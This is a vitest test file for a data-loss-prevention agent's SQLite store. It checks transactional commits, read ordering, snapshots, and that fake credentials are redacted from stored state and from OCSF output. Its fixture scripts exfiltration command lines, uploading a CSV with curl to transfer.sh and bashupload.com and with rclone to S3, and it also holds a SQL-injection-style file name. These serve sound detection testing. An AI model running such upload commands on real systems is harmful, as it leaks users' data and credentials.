import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { toDetectionFinding } from '../../../agent/deliver/formats/ocsf.ts';
import { toSummary } from '../../../agent/deliver/formats/summary.ts';
import { findingOf } from '../../../agent/finding.ts';
import { openInFolder, openInMemory } from '../../../agent/store/database.ts';
import type { Connection } from '../../../agent/store/sqlite.ts';
import { type Changes, Store } from '../../../agent/store/store.ts';
import { chainOf, stepOf } from '../../support/chain.ts';
import { replayOnto } from '../../support/engine.ts';
import { PROGRAMS, Story } from '../../support/story.ts';

const FINDING = findingOf(
  chainOf({ emissions: 1 }),
  {
    stage: 'export',
    link: 'lineage',
    evidence: null,
    service: null,
    serviceTier: null,
    destination: null,
    sanctioned: false,
    row: { severity: 'medium', confidence: 'high' },
    severity: 'medium',
    confidence: 'high',
    coverage: 'complete',
    rule: { id: '1', title: 'one' },
  },
  1,
  { name: 'mac-17', id: 'host', osVersion: '15.6.1' },
);
const RUN = {
  userId: 501,
  user: 'maria',
  tool: 'psql',
  toolKind: 'cli',
  role: 'unassigned',
  roleSource: 'account-record',
  timeUs: 1000,
} as const;
const PATH = '/users/maria/downloads/x.csv';

function changes(given: Partial<Changes> = {}): Changes {
  const chain = chainOf({ emissions: 1 });
  const place = { path: '/Users/maria/Downloads/x.csv', clockUs: 5 };
  const tie = {
    chainId: chain.id,
    link: 'lineage',
    counts: true,
    writtenUs: 5,
    trail: [place],
  } as const;
  return {
    chains: [chain],
    places: [{ chainId: chain.id, place }],
    steps: [{ chainId: chain.id, kind: 'file.close', step: stepOf() }],
    files: [{ key: PATH, file: { key: PATH, path: place.path, touchedUs: 5, ties: [tie] } }],
    findings: [FINDING],
    outgoing: [],
    runs: [RUN],
    exceptionHits: new Map(),
    ...given,
  };
}

function rowCounts(connection: Connection): Record<string, unknown> {
  return Object.fromEntries(
    ['chains', 'paths', 'events', 'files', 'findings', 'baseline'].map((table) => [
      table,
      connection.prepare(`SELECT count(*) FROM ${table}`).pluck().get(),
    ]),
  );
}

const ONE_EACH = { chains: 1, paths: 1, events: 1, files: 1, findings: 1, baseline: 1 };
const NONE = { chains: 0, paths: 0, events: 0, files: 0, findings: 0, baseline: 0 };

function placeIn(chainId: string, path: string, clockUs: number): Changes['places'][number] {
  return { chainId, place: { path, clockUs } };
}

function fileAt(key: string, touchedUs: number): Changes['files'][number] {
  return { key, file: { key, path: key, touchedUs, ties: [] } };
}

function argsOf(...args: readonly string[]): { readonly args: readonly string[] } {
  return { args };
}

function storyWithSecrets(): Story {
  const story = new Story().host();
  const shell = story.shell();
  const file = '/Users/maria/Downloads/x.csv';
  story.envelope({
    source: 'processes',
    processes: [
      {
        pid: 991,
        ppid: 1,
        uid: 501,
        name: 'mysql',
        path: PROGRAMS.mysql.path,
        cmd: `${PROGRAMS.mysql.path} --password=l1sted -h db`,
        startTime: '2026-11-02T08:00:00.000Z',
      },
    ],
  });
  const psql = story.run(shell, {
    ...PROGRAMS.psql,
    ...argsOf('psql', 'postgresql://maria:s3cr3t-url@db/crm', '-c', 'select sw0rdfish'),
  });
  story.write(psql, file);
  story.run(shell, {
    ...PROGRAMS.curl,
    ...argsOf('curl', '-u', 'me:t0p-user', '-T', file, 'https://me:s3cr3t-url@transfer.sh/x'),
  });
  story.run(shell, {
    ...PROGRAMS.rclone,
    ...argsOf('rclone', 'copy', file, ':s3,secret_access_key=k3y-of-s3:bucket'),
  });
  const dump = { ...PROGRAMS.mysql, ...argsOf('mysqldump', '-psw0rdfish'), stdout: 5 };
  story.run(shell, { ...dump, path: '/opt/homebrew/bin/mysqldump', signingId: 'mysqldump' });
  story.run(shell, {
    ...PROGRAMS.curl,
    ...argsOf(
      'curl',
      '-H',
      'Authorization: P1pe',
      '-T',
      '-',
      'https://a:s3cr3t-url@bashupload.com',
    ),
    stdin: 5,
  });
  return story;
}

describe('a commit', () => {
  it('writes everything', () => {
    const connection = openInMemory();
    new Store(connection).commit(changes());
    expect(rowCounts(connection)).toEqual(ONE_EACH);
  });

  it.each(Object.keys(NONE))('writes nothing when an insert into %s fails', (table) => {
    const connection = openInMemory();
    const store = new Store(connection);
    connection.exec(`CREATE TRIGGER refuse BEFORE INSERT ON ${table}
      BEGIN SELECT RAISE(ABORT, 'refused by the test'); END`);
    expect(() => store.commit(changes())).toThrow('refused by the test');
    expect(rowCounts(connection)).toEqual(NONE);
  });

  it('writes nothing of a second one whose last finding has a version that is already there', () => {
    const connection = openInMemory();
    const store = new Store(connection);
    store.commit(changes());
    const other = chainOf({ id: 'other', runs: 2 });
    const again = changes({
      chains: [other, chainOf({ runs: 9 })],
      places: [{ chainId: other.id, place: { path: '/y', clockUs: 6 } }],
      files: [{ key: PATH, file: null }],
      findings: [
        { ...FINDING, sequence: 2, versionId: 'new' },
        { ...FINDING, sequence: 3 },
      ],
    });
    expect(() => store.commit(again)).toThrow('UNIQUE');
    expect(rowCounts(connection)).toEqual(ONE_EACH);
    expect(store.chains()[0]?.runs).toBe(1);
    expect(store.files()).toHaveLength(1);
  });

  it('of a path without its chain is refused', () => {
    const connection = openInMemory();
    expect(() => new Store(connection).commit(changes({ chains: [] }))).toThrow('FOREIGN KEY');
    expect(rowCounts(connection)).toEqual(NONE);
  });
});

describe('what was committed', () => {
  it('is read as it was written', () => {
    const connection = openInMemory();
    new Store(connection).commit(changes());
    const store = new Store(connection);
    const { places, steps, files } = changes();
    expect(store.chains()).toEqual([
      chainOf({
        emissions: 1,
        paths: places.map(({ place }) => place),
        steps: steps.map(({ step }) => step),
      }),
    ]);
    expect(store.files()).toEqual(files.map(({ file }) => file));
    expect(store.lastSequence()).toBe(1);
  });

  it('is nothing in a new database', () => {
    const store = new Store(openInMemory());
    expect(store.chains()).toEqual([]);
    expect(store.files()).toEqual([]);
    expect(store.lastSequence()).toBe(0);
    expect(store.snapshot('context')).toBeNull();
  });

  it('gives chains oldest first, paths by time, and files untouched longest first', () => {
    const store = new Store(openInMemory());
    store.commit(
      changes({
        chains: [chainOf({ id: 'b', firstUs: 2 }), chainOf({ id: 'a', firstUs: 1 })],
        places: [placeIn('b', '/late', 9), placeIn('b', '/early', 1), placeIn('b', '/same', 9)],
        steps: [],
        files: [fileAt('/new', 7), fileAt('/old', 3)],
      }),
    );
    expect(store.chains().map(({ id }) => id)).toEqual(['a', 'b']);
    expect(store.chains()[1]?.paths.map(({ path }) => path)).toEqual(['/early', '/late', '/same']);
    expect(store.files().map(({ path }) => path)).toEqual(['/old', '/new']);
  });

  it('changes with its chain, and forgets a file that is forgotten', () => {
    const store = new Store(openInMemory());
    store.commit(changes());
    const grown = chainOf({ emissions: 2, severity: 'high', lastUs: 99 });
    store.commit(
      changes({
        chains: [grown],
        places: [],
        steps: [],
        files: [{ key: PATH, file: null }],
        findings: [],
      }),
    );
    expect(store.chains()).toEqual([
      expect.objectContaining({ severity: 'high', lastUs: 99, emissions: 2 }),
    ]);
    expect(store.files()).toEqual([]);
  });

  it('holds names that look like SQL or JSON as they are', () => {
    const store = new Store(openInMemory());
    const path = `/x/'); DROP TABLE chains; --"\u0000\u001b\u{1F4BE}.csv`;
    store.commit(
      changes({ files: [{ key: path, file: { key: path, path, touchedUs: 1, ties: [] } }] }),
    );
    expect(store.files().map((file) => file.path)).toEqual([path]);
    expect(store.chains()).toHaveLength(1);
  });
});

describe('a snapshot', () => {
  it('is replaced by the next one of its name', () => {
    const store = new Store(openInMemory());
    store.saveSnapshot('context', { a: 1 });
    store.saveSnapshot('context', { a: 2 });
    store.saveSnapshot('other', null);
    expect(store.snapshot('context')).toBe('{"a":2}');
    expect(store.snapshot('other')).toBe('null');
  });
});

describe('secrets of command lines and environments', () => {
  const SECRETS = ['hunter2', 'sw0rdfish', 's3cr3t-url', 't0p-user', 'k3y-of-s3', 'l1sted', 'P1pe'];

  it('are in no file of the state, no summary and no OCSF document', () => {
    const folder = mkdtempSync(join(tmpdir(), 'spillwatch-secrets-'));
    try {
      const story = storyWithSecrets();
      const told = story.text();
      for (const secret of SECRETS) expect(told).toContain(secret);
      const connection = openInFolder(folder);
      const findings = replayOnto(connection, story.lines());
      expect(findings.map(({ stage }) => stage)).toContain('upload');
      // Read while the log is still there, so that both files are looked at.
      const kept = readdirSync(folder).map((name) => readFileSync(join(folder, name), 'latin1'));
      connection.close();
      kept.push(readFileSync(join(folder, 'spillwatch.db'), 'latin1'));
      expect(kept.join('')).toContain('/Users/maria/Downloads/x.csv');
      const sent = findings.map((finding) =>
        JSON.stringify([toSummary(finding), toDetectionFinding(finding, { version: '1.0.0' })]),
      );
      for (const secret of [...SECRETS, 'PGPASSWORD']) {
        expect(kept.filter((bytes) => bytes.includes(secret))).toEqual([]);
        expect(sent.filter((document) => document.includes(secret))).toEqual([]);
      }
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
